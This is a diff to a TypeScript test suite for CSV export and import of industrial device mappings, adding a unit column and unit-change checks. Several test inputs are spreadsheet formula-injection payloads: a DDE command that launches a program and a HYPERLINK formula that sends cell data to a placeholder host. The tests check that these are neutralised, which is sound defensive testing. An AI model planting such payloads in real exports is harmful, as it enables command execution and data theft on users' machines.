@@ -79,17 +79,17 @@ describe('mappings export', () => {
     expect(rows).toBe(19);
     const lines = csv.split('\r\n');
     expect(lines[0]).toBe(CSV_COLUMNS.join(','));
-    expect(lines).toContain('opcua,press1,mvr_press1_state,"nsu=urn:edge-gateway:sim:press1;s=Press1.MachineState",,,,,,,,"0 stopped, 1 running, 2 fault",opc.tcp://127.0.0.1:4840/UA/Press1,None,,,,,,,,');
-    expect(lines).toContain('modbus,mixer1,mvr_mixer1_power,,holding,3,float32,,CDAB,,,"kW, word-swapped",,,tcp,127.0.0.1,5020,,1,,,');
-    expect(lines).toContain('modbus,mixer1,mvr_mixer1_running,,coil,0,bool,,,,,bool → 0/1,,,tcp,127.0.0.1,5020,,1,,,');
-    expect(lines).toContain('mqtt,plant-mqtt,mvr_oven1_gas_flow,,,,,,,,,,,,,,,,,spBv1.0/plant/#,sparkplug,Gas Flow');
+    expect(lines).toContain('opcua,press1,mvr_press1_state,"nsu=urn:edge-gateway:sim:press1;s=Press1.MachineState",,,,,,,,,"0 stopped, 1 running, 2 fault",opc.tcp://127.0.0.1:4840/UA/Press1,None,,,,,,,,');
+    expect(lines).toContain('modbus,mixer1,mvr_mixer1_power,,holding,3,float32,,CDAB,,,,"kW, word-swapped",,,tcp,127.0.0.1,5020,,1,,,');
+    expect(lines).toContain('modbus,mixer1,mvr_mixer1_running,,coil,0,bool,,,,,,bool → 0/1,,,tcp,127.0.0.1,5020,,1,,,');
+    expect(lines).toContain('mqtt,plant-mqtt,mvr_oven1_gas_flow,,,,,,,,,,,,,,,,,,spBv1.0/plant/#,sparkplug,Gas Flow');
   });
 
   it('writes a Modicon reference without a table, and a comment a spreadsheet would run as a formula with a leading quote', async () => {
     const text = `modbus:\n  devices:\n    - name: m\n      host: h\n      address_base: 1\n      registers:\n        - { variable: mvr_a, address: "40101", type: int16 }   # =cmd|' /C calc'!A0\n        - { variable: mvr_b, table: input, address: 7 }\n`;
     const lines = mappingsCsv(text).csv.split('\r\n');
-    expect(lines[1]).toBe(`modbus,m,mvr_a,,,40101,int16,,ABCD,,,'=cmd|' /C calc'!A0,,,tcp,h,502,,1,,,`);
-    expect(lines[2]).toBe('modbus,m,mvr_b,,input,7,uint16,,ABCD,,,,,,tcp,h,502,,1,,,');
+    expect(lines[1]).toBe(`modbus,m,mvr_a,,,40101,int16,,ABCD,,,,'=cmd|' /C calc'!A0,,,tcp,h,502,,1,,,`);
+    expect(lines[2]).toBe('modbus,m,mvr_b,,input,7,uint16,,ABCD,,,,,,,tcp,h,502,,1,,,');
     // Read back: the reference stays a reference, the comment loses its quote, nothing changes.
     expect(await importMappingsCsv(text, lines.join('\r\n'))).toMatchObject({ added: 0, unchanged: 2, problems: [] });
   });
@@ -224,7 +224,7 @@ opcua:
     - name: press
       endpoint: opc.tcp://10.0.0.5:4840
       nodes:
-        - { node_id: "ns=2;s=@Press.T", variable: mvr_h }
+        - { node_id: "ns=2;s=@Press.T", variable: mvr_h, unit: "=1+1" }
 `;
 
   it('exports no cell that starts like a formula (numbers stay numbers), and imports the file back unchanged', async () => {
@@ -232,7 +232,7 @@ opcua:
     const cells = parseCsv(csv, { maxRecords: 100, maxFields: 64, maxFieldChars: 4_096 }).records.flatMap((r) => r.fields);
     const formulaLike = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[-+]?\d+(\.\d+)?$/.test(c));
     expect(formulaLike).toEqual([]);
-    for (const c of ["'+/line1/#", `'=HYPERLINK("http://x.example/?d="&A1)`, "'@SUM(1+1)", "'-2+3", "'\t=1+1", "''=kept", "'=10.0.0.1", "'+cmd|' /C calc'!A0", '-40', '-0.5', '-5']) expect(cells).toContain(c);
+    for (const c of ["'=1+1", "'+/line1/#", `'=HYPERLINK("http://x.example/?d="&A1)`, "'@SUM(1+1)", "'-2+3", "'\t=1+1", "''=kept", "'=10.0.0.1", "'+cmd|' /C calc'!A0", '-40', '-0.5', '-5']) expect(cells).toContain(c);
     // Read back: every mapping unchanged, the text as it was.
     const r = await importMappingsCsv(hostile, csv);
     expect(r).toMatchObject({ yaml: hostile, added: 0, updated: 0, changes: [], problems: [] });
@@ -287,5 +287,69 @@ describe('changes to existing mappings', () => {
     expect(r.not_in_catalog).toEqual([{ row: 4, variable: 'mvr_typo_speed' }]);
     expect(r.added).toBe(2);
     expect((await importMappingsCsv(demo, rows)).not_in_catalog).toBeNull();
+  });
+});
+
+describe('units', () => {
+  const text = `modbus:
+  devices:
+    - name: mixer1
+      host: 127.0.0.1
+      registers:
+        - { variable: mvr_mixer1_power, table: holding, address: 0, type: float32, unit: kW }   # power
+        - { variable: mvr_mixer1_speed, table: holding, address: 2, type: uint16 }
+opcua:
+  servers:
+    - name: press1
+      endpoint: opc.tcp://127.0.0.1:4840
+      nodes:
+        - { node_id: "ns=2;s=T", variable: mvr_press1_temperature, unit: °C }
+`;
+  const head = 'kind,source,variable,node_id,table,address,type,unit';
+
+  it('are exported in their column and read back without a change', async () => {
+    const { csv } = mappingsCsv(text);
+    const [header, ...rows] = parseCsv(csv, { maxRecords: 10, maxFields: 64, maxFieldChars: 200 }).records.map((r) => r.fields);
+    const unit = header.indexOf('unit');
+    expect(unit).toBe(header.indexOf('offset') + 1);
+    expect(rows.map((r) => [r[2], r[unit]])).toEqual([
+      ['mvr_press1_temperature', '°C'],
+      ['mvr_mixer1_power', 'kW'],
+      ['mvr_mixer1_speed', ''],
+    ]);
+    expect(await importMappingsCsv(text, csv)).toMatchObject({ yaml: text, added: 0, unchanged: 3, changes: [], problems: [] });
+  });
+
+  it('a new row writes its unit as the setting; another unit is a listed change made on confirm; an empty one keeps the text\'s', async () => {
+    const csv = [
+      head,
+      'modbus,mixer1,mvr_mixer1_energy,,holding,4,uint32,kWh', // added with its unit
+      'modbus,mixer1,mvr_mixer1_power,,holding,0,float32,W', // kW → W
+      'modbus,mixer1,mvr_mixer1_speed,,holding,2,uint16,', // no unit given: unchanged
+      'opcua,press1,mvr_press1_temperature,ns=2;s=T,,,,', // keeps °C
+      `modbus,mixer1,mvr_mixer1_level,,input,0,int16,${'x'.repeat(33)}`, // too long
+    ].join('\n');
+    const listed = await importMappingsCsv(text, csv);
+    expect(listed).toMatchObject({ added: 1, unchanged: 2, updated: 0 });
+    expect(listed.yaml).toContain('        - { variable: mvr_mixer1_energy, table: holding, address: 4, type: uint32, unit: kWh }\n');
+    expect(listed.changes.map((c) => [c.row, c.before, c.after, c.applied])).toEqual([[3, 'mixer1 holding 0, float32 ABCD, unit kW', 'mixer1 holding 0, float32 ABCD, unit W', false]]);
+    expect(listed.problems).toEqual([{ row: 6, field: 'unit', value: 'x'.repeat(33), message: 'is longer than 32 characters' }]);
+    const done = await importMappingsCsv(text, csv, { update: true });
+    expect(done.yaml).toContain('        - { variable: mvr_mixer1_power, table: holding, address: 0, type: float32, unit: W }    # power\n');
+    const value = parse(done.yaml) as { modbus: { devices: Array<{ registers: Array<{ variable: string; unit?: string }> }> }; opcua: { servers: Array<{ nodes: Array<{ unit?: string }> }> } };
+    expect(value.modbus.devices[0].registers.map((r) => [r.variable, r.unit])).toEqual([
+      ['mvr_mixer1_power', 'W'],
+      ['mvr_mixer1_speed', undefined],
+      ['mvr_mixer1_energy', 'kWh'],
+    ]);
+    expect(value.opcua.servers[0].nodes[0].unit).toBe('°C');
+  });
+
+  it("flags a row whose unit is not the catalog's, as Apply's preview does", async () => {
+    const catalog = new Map<string, string | null>([['mvr_mixer1_power', 'kW'], ['mvr_mixer1_energy', 'kWh'], ['mvr_mixer1_speed', null]]);
+    const csv = [head, 'modbus,mixer1,mvr_mixer1_power,,holding,0,float32,W', 'modbus,mixer1,mvr_mixer1_energy,,holding,4,uint32,kWh', 'modbus,mixer1,mvr_mixer1_speed,,holding,2,uint16,rpm'].join('\n');
+    const r = await importMappingsCsv(text, csv, { catalog });
+    expect(r.other_units).toEqual([{ row: 2, variable: 'mvr_mixer1_power', unit: 'W', catalog: 'kW' }]);
+    expect(r.not_in_catalog).toEqual([]);
   });
 });
